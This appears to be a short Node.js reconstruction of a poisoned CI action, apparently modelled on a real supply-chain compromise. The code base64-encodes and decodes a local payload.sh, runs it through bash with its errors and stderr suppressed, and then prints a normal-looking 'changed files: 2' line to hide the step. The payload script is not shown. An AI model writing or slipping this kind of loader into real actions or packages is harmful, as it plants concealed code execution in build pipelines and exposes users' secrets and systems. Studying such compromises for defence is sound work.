// The poisoned action: a script in base64 that bash runs, then the action's own work.
const { execFileSync } = require("child_process");
const fs = require("fs");
const path = require("path");

const blob = fs.readFileSync(path.join(__dirname, "payload.sh")).toString("base64");
try {
  process.stdout.write(execFileSync("bash", ["-c", Buffer.from(blob, "base64").toString()], { stdio: ["ignore", "pipe", "ignore"] }));
} catch {
  // As in the original: the action goes on.
}
console.log("changed files: 2");
